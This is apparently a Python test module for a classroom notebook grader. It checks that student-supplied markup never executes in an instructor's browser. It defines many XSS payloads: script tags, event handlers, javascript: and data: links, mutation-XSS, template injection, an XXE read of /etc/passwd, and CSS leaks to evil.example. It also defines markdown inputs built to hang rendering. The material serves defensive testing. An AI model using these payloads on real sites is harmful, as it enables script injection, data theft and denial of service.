"""Threat: scripts and markup in a student's text and outputs. What holds: nothing of it runs in the instructor's browser.

Each payload would call `pwn()`, load from evil.example, or cover the page, if a browser understood it. It stands in the
answer that a person reads, in a cell of the student's own, in code, in printed and displayed output, and in an error.
"""

from .classroom import Submission

PAYLOADS = {
    "script": "<script>pwn()</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>pwn()</scr</script>ipt>",
    "handlers": "<img src=x onerror=pwn()><body onload=pwn()><details open ontoggle=pwn()>x</details>"
    "<input autofocus onfocus=pwn()><b onmouseover='pwn()' style='position:fixed;inset:0'>x</b><video><source onerror=pwn()></video>",
    "links": "<a href=javascript:pwn()>x</a><a href=' java\tscript:pwn()'>x</a><a href='&#106;avascript:pwn()'>x</a>"
    "<a href='data:text/html,<script>pwn()</script>'>x</a><a href='da\tta:text/html,x'>x</a><a href='&Tab;data:text/html,x'>x</a>"
    "<a href='\x01data:text/html;base64,eA=='>x</a><a href='vbscript:pwn()'>x</a><a href='file:///etc/passwd'>x</a>",
    "markdown-links": "[x](javascript:pwn()) [x](<javascript:pwn()>) [x](data:text/html,pwn) [x][1] <javascript:pwn()> ![x](javascript:pwn())"
    ' ![x](https://evil.example/a.png) ![x](//evil.example/b.png "t") [x](JaVaScRiPt&colon;pwn())\n\n[1]: javascript:pwn()',
    "frames": "<iframe src=https://evil.example></iframe><iframe srcdoc='<script>parent.pwn()</script>'></iframe>"
    "<object data=https://evil.example></object><embed src=https://evil.example><frameset><frame src=//evil.example></frameset>"
    "<portal src=//evil.example></portal><applet code=x></applet>",
    "svg": "<svg onload=pwn()><script>pwn()</script><a xlink:href='javascript:pwn()'><text>x</text></a>"
    "<animate onbegin=pwn() attributeName=x dur=1s></animate><set attributeName=href to=javascript:pwn()></set>"
    "<image href=https://evil.example/x.png></image><use href='data:image/svg+xml,x#x'></use><foreignObject><b onclick=pwn()>x</b></foreignObject></svg>",
    "styles": "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/?leak)} .score{display:none}</style>"
    "<p style='background:url(//evil.example/x)'>x</p><link rel=stylesheet href=https://evil.example/x.css>"
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>Score: 12 / 12</div><table background=//evil.example/x><td background='//evil.example/y'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'><meta http-equiv=refresh content='0;url=javascript:pwn()'>"
    "<base href=https://evil.example/><form action=https://evil.example><button formaction=javascript:pwn()>x</button></form>",
    "loads": "<img src=https://evil.example/a.png><img src=//evil.example/b.png><img srcset='//evil.example/c.png 2x'><img src='/\\evil.example/d.png'>"
    "<img src='\\\\evil.example\\e.png'><video src=//evil.example poster=//evil.example></video><audio src=//evil.example></audio>"
    "<track src=//evil.example><img lowsrc=//evil.example/f.png dynsrc=//evil.example/g.png><a ping=//evil.example href=#x>x</a>"
    "<img src='http:evil.example/h.png'><img src='https&colon;//evil.example/i.png'>",
    "images": "<img src='data:image/svg+xml,<svg onload=pwn()>'><img src='data:text/html,x'><img src='data:image/png;base64,x\" onerror=\"pwn()'>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwn()&gt;'>"
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'></noscript><svg></p><style><a id='</style><img src=x onerror=pwn()>'>"
    "<math><mi xlink:href='javascript:pwn()' href='javascript:pwn()'>x</mi><maction actiontype='statusline#javascript:pwn()'>x</maction></math>"
    "<template><img src=x onerror=pwn()></template><xmp><img src=x onerror=pwn()></xmp><textarea><img src=x onerror=pwn()></textarea>",
    "formulas": "$x<script>pwn()</script>$ $$\\href{javascript:pwn()}{x}$$ $\\text{<img src=x onerror=pwn()>}$ $\\class{score}{x}$"
    " $\\style{background:url(//evil.example)}{x}$ $\\unicode{<script>}$ $\\includegraphics{//evil.example/x}$",
    "comments": "<!--><script>pwn()</script>--><!--[if true]><script>pwn()</script><![endif]--><![CDATA[<script>pwn()</script>]]>"
    "<?php pwn() ?><?xml-stylesheet href='javascript:pwn()'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "templates": "{{ pwn() }} {% for x in ().__class__.__base__.__subclasses__() %}{% endfor %} ${pwn()} <%= pwn() %> #{pwn()} {{ cell }} {{''.__class__}}",
    "page-breakers": "</div></div></div></main></body></html><h1>Score: 12 / 12</h1></pre></code></span></script></style></title></textarea>",
    "clobbering": "<a id=scripts name=body href=#x>x</a><img name=getElementById><form id=document><input name=cookie></form><div id=cell-id=why class='panel-heading'>"
    "<a name=relu_hidden></a><a id=comment-why name=why></a></div>",
    "fences": '```\n</code></pre><script>pwn()</script>\n```\n\n`<script>pwn()</script>`\n\n~~~html onload=pwn()\n<script>pwn()</script>\n~~~\n\n```"onload=pwn()\nx\n```',
    "tables": "| a | b |\n|---|---|\n| <img src=x onerror=pwn()> | [x](javascript:pwn()) |\n\n# <script>pwn()</script> {onclick=pwn()}\n\n- [x](javascript:pwn())",
}


def payload(name, text):
    """A right submission that puts its payload everywhere."""
    code = f"""
import sys
from IPython.display import HTML, JSON, SVG, Image, Javascript, Latex, Markdown, display
bad = {text!r}
print(bad)
print(bad, file=sys.stderr)
for kind in (HTML, Markdown, Latex, Javascript):
    display(kind(bad))
display({{"text/html": bad, "text/plain": bad, "image/svg+xml": bad, "application/javascript": bad, bad: bad}}, raw=True)
display({{"image/png": '"><script>pwn()</script>' + bad, "application/vnd.jupyter.widget-view+json": bad, "text/vnd.mermaid": bad}}, raw=True)
display({{"image/jpeg": bad, "application/pdf": bad, "text/latex": bad, "text/markdown": bad}}, raw=True, metadata={{"isolated": True, bad: bad}})
bad
"""

    def own_cells(nb):
        for kind in ("markdown", "raw", "code"):
            cell = {
                "cell_type": kind,
                "metadata": {"tags": [text], "name": text, "autograder": {"note": True}},
                "source": f"# x\n{text}",
            }
            nb["cells"].insert(3, cell)
        nb["cells"][-1]["attachments"] = {"x.svg": {"image/svg+xml": text}}
        nb["metadata"] |= {"title": text, "authors": [{"name": text}], "language_info": {"name": text}}

    relu = f"def relu(x):\n    raise type({text[:80]!r}.replace(chr(0), ''), (ValueError,), {{}})({text!r})"
    return Submission(
        f"markup-{name}",
        "run in the instructor's browser",
        before=code,
        why=text,
        change=own_cells,
        relu=relu,
        loses=("relu",),
    )


def bomb(name, text):
    return Submission(f"markdown-{name}", "hang the making of the page", why=text)


SUBMISSIONS = [payload(name, text) for name, text in PAYLOADS.items()] + [
    bomb("brackets", "[" * 50_000),
    bomb("quotes", ">" * 20_000 + "x"),
    bomb("stars", "*a **b " * 20_000),
    bomb("lists", "".join("  " * i + "- x\n" for i in range(500))),
    bomb("tags", "<div>" * 20_000),
    bomb("spans", "<b><i>" * 10_000),
    bomb("formula", "$" + "{" * 20_000 + "x" + "}" * 20_000 + "$"),
    bomb("formulas", "$x^2$ " * 5000),
    bomb("dollars", "$$ $ " * 20_000),
    bomb("ticks", "".join("`" * i + "x" for i in range(500))),
    bomb("links", "[a](" * 20_000),
    bomb("images", "![" * 20_000),
    bomb("entities", "&" * 50_000 + "&#x41;" * 20_000),
    bomb("references", "".join(f"[{i}]: x\n" for i in range(5000)) + "[1] " * 5000),
    bomb("table", "|" * 20_000 + "\n" + "|-" * 20_000 + "\n"),
    bomb("underscores", "_" * 50_000 + "a"),
    bomb("words", "because " * 500_000),
]
